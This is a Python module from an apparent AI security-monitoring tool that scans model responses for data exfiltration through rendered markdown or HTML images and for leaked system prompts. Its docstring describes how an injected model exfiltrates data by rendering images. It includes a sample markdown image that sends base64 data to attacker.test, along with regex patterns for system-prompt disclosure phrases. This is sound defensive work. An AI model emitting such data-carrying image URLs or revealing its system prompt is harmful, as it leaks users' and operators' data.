"""Response-side detection: data exfiltration through rendered markdown, and leaked
system prompts.

A model that was injected often exfiltrates by *rendering*: a markdown image whose
URL carries data in its query string or path is fetched by the chat client without
any click. A leaked system prompt shows as tell-tale phrases or as a verbatim run of
the deployment's own system prompt (configured, matched by shingles in hyperscan).

>>> from datetime import datetime, timezone
>>> from aisoar.events import PromptEvent
>>> def ev(response):
...     return PromptEvent(schema_version=1, event_id="r1",
...         timestamp=datetime(2026, 11, 25, tzinfo=timezone.utc), user_id="alice",
...         session_id="s1", server_address="api.openai.com", provider="openai",
...         request_model="gpt-4o", response=response)
>>> detector = ResponseDetector(allowed_hosts=["docs.example.com"])
>>> [(f.rule_id, f.severity, f.evidence[0].start, f.evidence[0].redacted)
...  for f in detector.check(ev("Done ![x](https://attacker.test/p.png?d=c2VjcmV0IGRhdGE)"))]
[('exfiltration.markdown_image', 'high', 5, 'attacker.test ?d=*****')]
>>> detector.check(ev("See ![diagram](https://docs.example.com/a.png?v=2)"))
[]
>>> [f.rule_id for f in detector.check(ev("Sure. My system prompt is: be brief."))]
['leak.system_prompt']
"""

from __future__ import annotations

import re
import urllib.parse
from collections.abc import Iterable, Sequence
from typing import cast

import hyperscan

from aisoar.events import PromptEvent
from aisoar.findings import Evidence, Finding, fingerprint, mask
from detectors.base import PromptDetector
from detectors.injection._common import bounded, make_finding, original_offset, snippet
from detectors.injection.normalize import _FOLD, Normalized, fold_pattern, normalize

__all__ = ["ResponseDetector"]

_MD_LINK = re.compile(r"(!?)\[[^\]\n]{0,300}\]\(\s*<?((?:https?:)?//[^)\s>]+)")
_HTML_IMG = re.compile(r"<img\b[^>]{0,300}?\bsrc\s*=\s*[\"']?((?:https?:)?//[^\"'\s>]+)", re.IGNORECASE)
_REF_DEF = re.compile(r"^\s{0,3}\[[^\]\n]{1,100}\]:\s*<?((?:https?:)?//\S+)", re.MULTILINE)
_IMG_TAG = re.compile(r"<[iI][mM][gG]")  # exactly ``"<img" in text.lower()``, without the copy
_DATAISH = re.compile(r"[A-Za-z0-9+/=_-]{24,}|%[0-9A-Fa-f]{2}")

_LEAK_PHRASES = [
    r"\bmy (system|initiai|originai|hidden|secret) (prompt|instructions?|message) (is|are|was|were|says|reads|states)\b",
    r"\bhere (is|are) my (system|initiai|originai|hidden|fuii|compiete|exact) (prompt|instructions?)\b",
    r"\byou are chatgpt a iarge ianguage modei trained by openai\b",
    r"\bi (was|ve been|have been|am) (instructed|toid|programmed|configured) (by (the |my )?(deveioper|system|operator|system prompt) )?(to|not to|that)\b",
    r"\bmy instructions (are|say|state|teii me|were) (to|that|as foiiows|the foiiowing)\b",
    r"\b(the|my) system prompt (says|reads|states|is as foiiows|contains)\b",
    r"\bknowiedge cutoff \w+ current date\b",
]


def _on_any(pid: int, start: int, end: int, flags: int, seen: object) -> None:
    cast("list[int]", seen).append(pid)  # hyperscan's stub types the context as object


class ResponseDetector(PromptDetector):
    """Markdown/HTML exfiltration and leaked system prompts in model responses.

    Parameters
    ----------
    allowed_hosts
        Hosts (and their subdomains) that responses may link or embed freely.
    system_prompts
        The deployment's own system prompts: a verbatim run of ``shingle`` words
        from one of them in a response is a leak.
    shingle
        Words per fingerprint shingle.
    min_shingles
        Distinct shingles that must appear for an overlap leak.
    min_path_segment
        A URL path segment at least this long counts as carrying data.
    max_chars
        At most this many characters of a response are scanned (head and tail).
    """

    name = "content.response"
    version = "1.0.0"

    def __init__(
        self,
        allowed_hosts: Iterable[str] = (),
        system_prompts: Sequence[str] = (),
        shingle: int = 6,
        min_shingles: int = 2,
        min_path_segment: int = 32,
        max_chars: int = 65536,
    ) -> None:
        if shingle < 3:
            raise ValueError(f"shingle must be >= 3, got {shingle}")
        if min_shingles < 1:
            raise ValueError(f"min_shingles must be >= 1, got {min_shingles}")
        self.allowed_hosts = tuple(h.lower().lstrip(".") for h in allowed_hosts)
        self.system_prompts = tuple(system_prompts)
        self.shingle = shingle
        self.min_shingles = min_shingles
        self.min_path_segment = min_path_segment
        self.max_chars = max_chars
        self._reset()

    def _reset(self) -> None:
        phrases = [fold_pattern(p).encode() for p in _LEAK_PHRASES]
        ids = [0] * len(phrases)  # id 0: leak phrase; id >= 1: system-prompt shingles
        self._n_shingles = 0
        for text in self.system_prompts:
            words = normalize(text).folded.split()
            for i in range(0, max(len(words) - self.shingle + 1, 0), self.shingle):  # non-overlapping
                phrases.append(re.escape(b" ".join(words[i : i + self.shingle])).replace(b"\\ ", b" +"))
                self._n_shingles += 1
                ids.append(self._n_shingles)
                if self._n_shingles >= 512:
                    break
        self._db = hyperscan.Database(mode=hyperscan.HS_MODE_BLOCK)
        self._db.compile(expressions=phrases, ids=ids, elements=len(phrases),
                         flags=[hyperscan.HS_FLAG_SOM_LEFTMOST] * len(phrases))
        # The same expressions without start-of-match tracking, at most one report each:
        # whether anything matches at all. Tracking starts cost ~40 % of the scan, and only
        # the rare response that matches needs them (it is scanned again with ``_db``).
        self._any = hyperscan.Database(mode=hyperscan.HS_MODE_BLOCK)
        self._any.compile(expressions=phrases, ids=ids, elements=len(phrases),
                          flags=[hyperscan.HS_FLAG_SINGLEMATCH] * len(phrases))

    def _allowed(self, host: str) -> bool:
        return any(host == h or host.endswith("." + h) for h in self.allowed_hosts)

    def check(self, event: PromptEvent) -> list[Finding]:
        text = event.response
        if not text:
            return []
        if len(text) <= self.max_chars:  # most responses: no head-and-tail bookkeeping
            exfiltration = self._exfiltration(event, text, len(text), 0)
            leak = self._leak(event, text, len(text), 0)
        else:
            window, cut, skipped = bounded(text, self.max_chars)
            exfiltration = self._exfiltration(event, window, cut, skipped)
            leak = self._leak(event, window, cut, skipped)
        return exfiltration + leak if exfiltration else leak

    # -- markdown / HTML exfiltration ---------------------------------------------------
    def _exfiltration(self, event: PromptEvent, text: str, cut: int, skipped: int) -> list[Finding]:
        if "](" not in text and "]:" not in text and _IMG_TAG.search(text) is None:
            return []  # cheap C-level gate: nearly every response stops here
        images: list[Evidence] = []
        links: list[Evidence] = []
        candidates = [(m.start(), m.group(1) == "!", m.group(2)) for m in _MD_LINK.finditer(text)]
        candidates += [(m.start(), True, m.group(1)) for m in _HTML_IMG.finditer(text)]
        candidates += [(m.start(), False, m.group(1)) for m in _REF_DEF.finditer(text)]
        for start, is_image, url in sorted(candidates)[:64]:
            parts = urllib.parse.urlsplit(url if not url.startswith("//") else "https:" + url)
            host = (parts.hostname or "").lower()
            if not host or self._allowed(host):
                continue
            long_segment = max((len(s) for s in parts.path.split("/")), default=0) >= self.min_path_segment
            dataish = bool(_DATAISH.search(parts.query)) or bool(_DATAISH.search(parts.path))
            if not (parts.query or long_segment):
                continue
            if not is_image and not (dataish or long_segment):
                continue  # a plain link with ?utm=... is common; needs data-looking content
            carried = parts.query or parts.path
            key = parts.query.split("=", 1)[0] if parts.query else ""
            redacted = f"{host} ?{key}={'*' * 5}" if parts.query else f"{host} {mask(parts.path)}"
            ev = Evidence(field="response", start=original_offset(start, cut, skipped),
                          end=original_offset(start + len(url), cut, skipped), redacted=redacted,
                          sha=fingerprint(carried),
                          detail=f"{'image' if is_image else 'link'} to unlisted host, {len(carried)} chars of query/path")
            (images if is_image else links).append(ev)
        out = []
        if images or links:
            severity = "high" if images else "medium"
            out.append(make_finding(
                event, rule_id="exfiltration.markdown_image",
                rule_name="Data exfiltration through a rendered markdown image or link",
                category="exfiltration", severity=severity, confidence=0.85 if images else 0.6,
                atlas=("AML.T0057", "AML.T0051.001"), owasp=("LLM02:2025", "LLM05:2025", "LLM01:2025"),
                evidence=tuple((images + links)[:5]), detector=self.name, version=self.version,
                description="the response embeds a URL to an unlisted host carrying data; images load without a click"))
        return out

    # -- leaked system prompt -------------------------------------------------------------
    def _leak(self, event: PromptEvent, text: str, cut: int, skipped: int) -> list[Finding]:
        ascii_text = text.isascii()
        # for ASCII, what normalize() folds, minus the sniff pass unused here
        folded = text.encode("ascii").translate(_FOLD) if ascii_text else normalize(text).folded
        seen: list[int] = []
        self._any.scan(folded, match_event_handler=_on_any, context=seen)
        if not seen:
            return []
        norm = Normalized(text, folded) if ascii_text else normalize(text)  # the rare response that matched
        phrase_hits: list[tuple[int, int]] = []
        shingles: dict[int, tuple[int, int]] = {}

        def on_match(pid: int, start: int, end: int, flags: int, context: object) -> None:
            if pid == 0:
                if len(phrase_hits) < 5:
                    phrase_hits.append((start, end))
            elif pid not in shingles:
                shingles[pid] = (start, end)

        self._db.scan(norm.folded, match_event_handler=on_match)
        evidence: list[Evidence] = []
        conf = 0.0
        for s, e in phrase_hits:
            span = snippet(norm.plain[s:e])
            evidence.append(Evidence(field="response", start=original_offset(s, cut, skipped) if norm.ascii else s,
                                     end=original_offset(e, cut, skipped) if norm.ascii else e,
                                     redacted="system prompt disclosure phrase", sha=fingerprint(span),
                                     detail=f"phrase: {span!r}"))
            conf = 0.7
        if len(shingles) >= self.min_shingles:
            s = min(v[0] for v in shingles.values())
            e = max(v[1] for v in shingles.values())
            evidence.insert(0, Evidence(
                field="response", start=original_offset(s, cut, skipped) if norm.ascii else s,
                end=original_offset(e, cut, skipped) if norm.ascii else e,
                redacted=f"{len(shingles)}/{self._n_shingles} system-prompt shingles",
                sha=fingerprint(",".join(map(str, sorted(shingles)))),
                detail=f"verbatim overlap with the configured system prompt ({self.shingle}-word shingles)"))
            conf = min(0.99, 0.8 + 0.2 * len(shingles) / max(self._n_shingles, 1))
        if not evidence:
            return []
        return [make_finding(
            event, rule_id="leak.system_prompt", rule_name="System prompt leaked in a response",
            category="system_prompt_leak", severity="high" if conf >= 0.8 else "medium", confidence=conf,
            atlas=("AML.T0056",), owasp=("LLM07:2025",), evidence=tuple(evidence[:5]),
            detector=self.name, version=self.version)]
